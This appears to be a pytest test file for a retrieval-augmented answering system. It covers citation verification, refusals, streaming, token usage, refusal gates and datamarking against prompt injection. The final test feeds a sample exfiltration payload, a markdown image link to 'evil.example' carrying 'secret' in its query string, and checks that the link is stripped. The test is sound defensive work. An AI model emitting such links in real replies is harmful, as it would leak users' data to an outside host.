from __future__ import annotations

from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from functools import partial

import pytest

from doceo.core.config import AnswerConfig
from doceo.core.errors import ProviderError
from doceo.core.records import Answer, ChatReply, ChatRequest, Citation, Document, Hit, Message, Passage, Span, Usage
from doceo.providers.scripted import Scripted
from doceo.text.passages import REFUSAL, SYSTEM
from rag.answerer import ModelAnswerer
from rag.asking import Tools
from rag.citations import cited
from rag.refusal import Gate
from rag.shield import Shield

TEXT = "The pier is old. It was built in 1872 by Edith Marlow. Boats leave at noon.\n\nTickets cost 4 euros."
DOCUMENT = Document(
    id=Document.identify(TEXT),
    source="a.txt",
    media_type="text/plain",
    title="Pier",
    text=TEXT,
    sha256="0",
    pages=(0, 77),
)


def passage(start: int, end: int) -> Passage:
    span = Span(document_id=DOCUMENT.id, start=start, end=end)
    return Passage(
        hit=Hit(chunk_id=f"c_{start}", source="a.txt", span=span, score=1), title="Pier", text=TEXT[start:end]
    )


PASSAGES = [passage(0, 75), passage(77, len(TEXT))]


def lookup(key: str) -> Document | None:
    return DOCUMENT if key == DOCUMENT.id else None


class Fixed:
    """A retriever that finds the same passages whatever is asked."""

    def __init__(self, passages: Sequence[Passage]) -> None:
        self.passages = list(passages)

    def search(self, question: str, k: int) -> list[Passage]:
        return self.passages[:k]


def test_a_document_that_changed_leaves_a_citation_unverified() -> None:
    changed = DOCUMENT.model_copy(update={"text": "Something else entirely." * 9})
    assert [c.verified for c in cited("It is an old pier [1].", PASSAGES, lambda _: changed)] == [False]
    assert [c.verified for c in cited("It is an old pier [1].", PASSAGES, lambda _: None)] == [False]
    assert [c.verified for c in cited("It is an old pier [1].", PASSAGES, lookup)] == [True]


def test_a_model_with_documents() -> None:
    model = Scripted([" Edith Marlow built it [1]. "])
    answerer = ModelAnswerer("base+rag", model, Fixed(PASSAGES), AnswerConfig(max_tokens=50), documents=lookup)
    answer = answerer.answer("Who built the pier?")
    assert answer.text == "Edith Marlow built it [1]."
    assert [citation.quote for citation in answer.citations] == ["It was built in 1872 by Edith Marlow."]
    assert [hit.chunk_id for hit in answer.hits] == ["c_0", "c_77"]
    assert not answer.refused
    (request,) = model.requests
    assert (request.max_tokens, request.messages[0].content) == (50, SYSTEM)
    assert request.messages[-1].content.startswith("[1] Pier\nThe pier is old.")
    assert request.messages[-1].content.endswith("Question: Who built the pier?")


def test_a_model_alone() -> None:
    model = Scripted(["Nobody knows [1]."])
    answer = ModelAnswerer("base", model).answer("Who?")
    assert (answer.text, answer.citations, answer.hits) == ("Nobody knows [1].", (), ())
    assert model.requests[0].messages == (Message(role="user", content="Who?"),)


@pytest.mark.parametrize("reply", [REFUSAL, f'"{REFUSAL}"', REFUSAL[:-1], f"{REFUSAL} [1]", REFUSAL.upper()])
def test_a_refusal_has_no_citations(reply: str) -> None:
    answer = ModelAnswerer("m+rag", Scripted([reply]), Fixed(PASSAGES), documents=lookup).answer("Who?")
    assert (answer.refused, answer.text, answer.citations) == (True, REFUSAL, ())
    assert "did not find" in answer.reason
    assert answer.hits


def test_without_passages_the_model_is_not_asked() -> None:
    model = Scripted([])
    answerer = ModelAnswerer("m+rag", model, Fixed([]))
    assert answerer.answer("Who?").refused
    assert [type(part) for part in answerer.stream("Who?")] == [str, Answer]
    assert model.requests == []
    assert answerer.finish(answerer.prepare("Who?"), ChatReply(text="I know!")).refused


def test_streaming_ends_with_the_same_answer() -> None:
    def answerer() -> ModelAnswerer:
        return ModelAnswerer(
            "m+rag", Scripted(["It is old [1]."]), Fixed(PASSAGES), documents=lookup, clock=lambda: 0.0
        )

    *pieces, last = answerer().stream("Is it old?")
    assert [piece for piece in pieces if isinstance(piece, str)] == ["It ", "is ", "old ", "[1]."]
    assert isinstance(last, Answer)
    assert tuple(piece for piece in pieces if isinstance(piece, Citation)) == last.citations
    assert last.citations
    whole = answerer().answer("Is it old?")
    assert last.model_copy(update={"usage": whole.usage}) == whole
    assert last.usage.prompt_tokens > last.usage.completion_tokens > 0


def test_a_stream_tells_what_the_provider_told() -> None:
    usage = Usage(prompt_tokens=321, completion_tokens=9, cached_tokens=300, cost=0.25, seconds=4.0)
    told = Scripted([ChatReply(text="It is old [1].", finish="length", usage=usage)])
    answerer = ModelAnswerer("m+rag", told, Fixed(PASSAGES), documents=lookup, clock=lambda: 0.0)
    *_, last = answerer.stream("Is it old?")
    assert isinstance(last, Answer)
    assert last.usage == usage.model_copy(update={"seconds": 0.0})


class Mute(Scripted):
    """A model whose streams end without the whole reply."""

    def stream(self, request: ChatRequest) -> Iterator[str | ChatReply]:
        return (part for part in super().stream(request) if isinstance(part, str))


@pytest.mark.parametrize("kind", [Mute, Scripted])
def test_where_nobody_tells_the_tokens_they_are_counted(kind: type[Scripted]) -> None:
    answerer = ModelAnswerer("m+rag", kind(["It is old [1]."]), Fixed(PASSAGES), count=lambda messages: len(messages))
    *_, last = answerer.stream("Is it old?")
    assert isinstance(last, Answer)
    assert (last.text, last.usage.prompt_tokens, last.usage.completion_tokens) == ("It is old [1].", 2, 1)


def test_errors_of_the_provider_pass() -> None:
    broken = ModelAnswerer("m", Scripted([ProviderError("down", hint="wait")]))
    with pytest.raises(ProviderError, match="down"):
        broken.answer("Who?")


def test_a_refusal_with_more_words_is_one() -> None:
    reply = f"{REFUSAL} The passages speak of piers only [1]."
    answerer = ModelAnswerer("m+rag", Scripted([reply, reply]), Fixed(PASSAGES), documents=lookup)
    answer = answerer.answer("Who?")
    assert (answer.refused, answer.text, answer.citations) == (True, REFUSAL, ())
    assert "The passages speak of piers only" in answer.reason
    assert not [piece for piece in answerer.stream("Who?") if isinstance(piece, Citation)]


class Chances:
    """Chances by question, and what was asked."""

    def __init__(self, **chances: float) -> None:
        self.chances, self.asked = chances, list[str]()

    def __call__(self, question: str, passages: Sequence[Passage]) -> float:
        self.asked.append(question)
        return self.chances[question]


@pytest.mark.parametrize("streaming", [False, True])
def test_code_refuses_before_the_model_is_asked(*, streaming: bool) -> None:
    model = Scripted([])
    tools = Tools(Fixed(PASSAGES), chance=Chances(Who=0.1), gate=Gate(0.3))
    answerer = ModelAnswerer("m+rag", model, config=AnswerConfig(trace=True), tools=tools, documents=lookup)
    answer = list(answerer.stream("Who"))[-1] if streaming else answerer.answer("Who")
    assert isinstance(answer, Answer)
    assert (answer.refused, answer.text, answer.citations, answer.chance) == (True, REFUSAL, (), pytest.approx(0.1))
    assert answer.reason == "The passages found hold an answer with a chance of 0.10, below 0.30."
    assert model.requests == []
    assert answer.trace is not None
    assert answer.trace.counted_tokens is None
    assert list(answer.trace.seconds) == ["retrieve"]


def test_a_calibrated_chance_decides() -> None:
    tools = Tools(Fixed(PASSAGES), chance=Chances(Who=0.1), gate=Gate(0.3, slope=0.5, offset=1.0, note="Old."))
    answer = ModelAnswerer(
        "m+rag", Scripted(["Boats [1]."]), config=AnswerConfig(trace=True), tools=tools, documents=lookup
    ).answer("Who")
    assert not answer.refused
    assert answer.chance == pytest.approx(0.4754, abs=1e-3)
    assert answer.trace is not None
    assert "Old." in answer.trace.notes


@dataclass(frozen=True)
class Wordings:
    queries: tuple[str, ...]
    weights: tuple[float, ...]
    by: str = "rules"
    note: str = ""


class Rewrites:
    def steps(self, question: str, history: Sequence[Message]) -> Iterator[ChatRequest]:
        yield from ()
        return Wordings((question, f"{history[0].content} {question}"), (0.25, 0.75))


def test_each_wording_of_a_follow_up_counts_by_its_weight() -> None:
    chances = Chances(**{"When": 0.8, "Who When": 0.4})
    tools = Tools(Fixed(PASSAGES), rewriter=Rewrites(), chance=chances, gate=Gate(0.45))
    history = [Message(role="user", content="Who"), Message(role="assistant", content="Edith [1].")]
    model = Scripted(["In 1872 [1]."])
    answerer = ModelAnswerer("m+rag", model, config=AnswerConfig(trace=True), tools=tools, documents=lookup)
    answer = answerer.answer("When", history)
    assert answer.chance == pytest.approx(0.25 * 0.8 + 0.75 * 0.4)
    assert answer.trace is not None
    assert (answer.trace.queries, answer.trace.rewriting) == (("When", "Who When"), "rules")
    assert [segment.name for segment in answer.trace.segments] == ["system", "turns", "retrieved", "question"]
    assert [message.content for message in model.requests[0].messages[1:3]] == ["Who", "Edith."]


@pytest.mark.parametrize("streaming", [False, True])
def test_a_server_that_cuts_prompts_is_told_of_once(*, streaming: bool) -> None:
    said: list[str] = []
    long = passage(0, 75).model_copy(update={"text": "word " * 1500})
    replies = [ChatReply(text="A [1].", usage=Usage(prompt_tokens=n)) for n in (900, 1024, 1700)]
    answerer = ModelAnswerer(
        "m+rag", Scripted(replies), Fixed([long]), AnswerConfig(trace=True), documents=lookup, say=said.append
    )

    def answer() -> Answer:
        last = list(answerer.stream("Who?"))[-1] if streaming else answerer.answer("Who?")
        assert isinstance(last, Answer)
        return last

    notes = [answer().trace.notes for _ in range(3)]  # type: ignore[union-attr]
    assert ["900 tokens" in "".join(note) for note in notes] == [True, False, False]
    assert "1,024 tokens" in notes[1][0]
    assert not any("cuts prompts" in note for note in notes[2])
    assert len(said) == 1
    assert "--context-tokens 900" in said[0]


def test_markers_without_a_passage_and_answers_without_a_marker_are_noted() -> None:
    model = Scripted(["Boats leave at noon [1][8].", "Boats leave at noon."])
    answerer = ModelAnswerer("m+rag", model, Fixed(PASSAGES), AnswerConfig(trace=True), documents=lookup)
    first, second = answerer.answer("When?"), answerer.answer("When?")
    assert first.trace is not None
    assert second.trace is not None
    assert first.trace.notes == ("The answer cites [8], which no passage has.",)
    assert second.trace.notes == ("The answer cites no passage.",)
    assert second.citations == ()


def test_pinned_passages_need_no_search_and_no_chance() -> None:
    model = Scripted(["Tickets cost 4 euros [2]."])
    tools = Tools(pinned=PASSAGES, chance=Chances(), gate=Gate(0.9))
    answer = ModelAnswerer("m", model, tools=tools, documents=lookup).answer("How much?")
    assert [(c.n, c.quote, c.verified) for c in answer.citations] == [(2, "Tickets cost 4 euros.", True)]
    assert (answer.chance, answer.hits) == (None, ())


def shielded(model: Scripted, secret: bytes = b"x" * 32, **more: object) -> ModelAnswerer:
    datamarking = bool(more.get("datamarking"))
    tools = Tools(Fixed(PASSAGES), shield=partial(Shield.for_request, datamarking=datamarking), version="000001")
    config = AnswerConfig(datamarking=datamarking)
    return ModelAnswerer("m+rag", model, config=config, tools=tools, documents=lookup, clock=lambda: 0.0, secret=secret)


def seen(model: Scripted) -> list[str]:
    return [request.messages[-1].content for request in model.requests]


def test_marks_are_taken_out_before_quotes_are_looked_for() -> None:
    shown = Scripted(["none"])
    shielded(shown, datamarking=True).answer("When?")
    passage = seen(shown)[0]
    assert "Boats leave at noon." not in passage
    blank = passage[passage.index("Boats") + len("Boats")]
    reply = f"Boats{blank}leave{blank}at{blank}noon [1]."
    answer = shielded(Scripted([reply]), datamarking=True).answer("When?")
    assert answer.text == "Boats leave at noon [1]."
    assert answer.citations[0].quote == "Boats leave at noon."
    assert answer.citations[0].verified
    *pieces, last = shielded(Scripted([reply]), datamarking=True).stream("When?")
    assert "".join(piece for piece in pieces if isinstance(piece, str)) == answer.text
    assert isinstance(last, Answer)
    assert last.citations == answer.citations


def code(content: str) -> str:
    return content.partition("<<<")[2][:12]


def test_every_question_has_marks_that_nobody_can_foresee() -> None:
    model, stranger = Scripted(["A.", "B.", "A."]), Scripted(["A."])
    answerer = shielded(model)
    for question in ("When?", "Who?", "When?"):
        answerer.answer(question)
    shielded(stranger, b"y" * 32).answer("When?")
    codes = [code(content) for content in (*seen(model), *seen(stranger))]
    assert codes[0] == codes[2]  # a journal finds the reply again
    assert len({*codes}) == 3
    assert all(request.messages[0] == model.requests[0].messages[0] for request in model.requests)


def test_the_marks_in_the_beginning_of_a_prompt_stay() -> None:
    tools = Tools(pinned=PASSAGES, shield=Shield.for_request, version="000001")
    model = Scripted(["A.", "B."])
    answerer = ModelAnswerer("m", model, tools=tools, documents=lookup)
    answerer.answer("When?")
    answerer.answer("Who?", [Message(role="user", content="When?"), Message(role="assistant", content="A.")])
    first, later = (request.messages for request in model.requests)
    assert later[: len(first)] == first


def test_links_to_other_hosts_are_not_handed_on() -> None:
    reply = "Boats leave at noon [1]. ![x](https://evil.example/?q=secret)"
    answerer = ModelAnswerer("m+rag", Scripted([reply, reply]), Fixed(PASSAGES), documents=lookup)
    answer = answerer.answer("When?")
    assert "evil.example" not in answer.text
    assert answer.citations[0].verified
    assert "evil.example" not in "".join(piece for piece in answerer.stream("When?") if isinstance(piece, str))
